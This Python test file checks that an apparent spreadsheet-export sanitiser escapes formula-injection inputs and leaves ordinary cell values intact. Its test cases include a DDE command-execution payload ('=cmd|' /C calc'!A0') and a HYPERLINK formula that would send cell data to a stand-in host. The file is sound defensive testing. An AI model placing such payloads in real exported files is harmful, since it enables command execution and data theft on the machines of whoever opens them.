"""Cells that leave the program start no formula elsewhere, and come back as they were."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vipdesk.domain.table_text import harmless, tabbed
from vipdesk.files.sheet import plain

STARTERS = "=+-@＝＋－＠"


@pytest.mark.parametrize(
    "cell",
    [
        *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1", "\u3000=1", "\x00=1", "＝1+1"),
        *("＋1", "－x", "＠x"),
        "=HYPERLINK(\"http://x/?\"&A1)", "=cmd|' /C calc'!A0", "-", "+86 138 0000 0001", "\tx", "1\n=1"[1:],
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_calculate_is_written_as_text(cell):
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["", "林小海", "1=1", "-12.50", "+5", "-3%", "58.50", "MA26-0413-K", "a@b.cn", "2026-11-22"]
)
def test_numbers_and_ordinary_texts_stay_as_they_are(cell):
    assert harmless(cell) == cell


@given(st.text(max_size=20).map(str.strip).filter(lambda cell: not cell.startswith('="') or not cell.endswith('"')))
def test_our_own_readers_give_every_cell_back(cell):
    assert plain(harmless(cell)) == cell


@given(st.text(alphabet=f"{STARTERS} \t\r\n'1a\u3000\x0b", max_size=8))
def test_no_cell_begins_with_what_starts_a_formula(cell):
    written = harmless(cell).lstrip()
    assert written[:1] not in set(STARTERS) or written.strip("+-").removesuffix("%").replace(".", "").isascii()


def test_a_table_on_the_clipboard_keeps_its_rows_and_columns():
    rows = [("File", "Row"), ("a\tb.csv", "=1\n2"), ("x\u2028y", "3")]
    assert tabbed(rows) == "File\tRow\na b.csv\t'=1 2\nx y\t3"
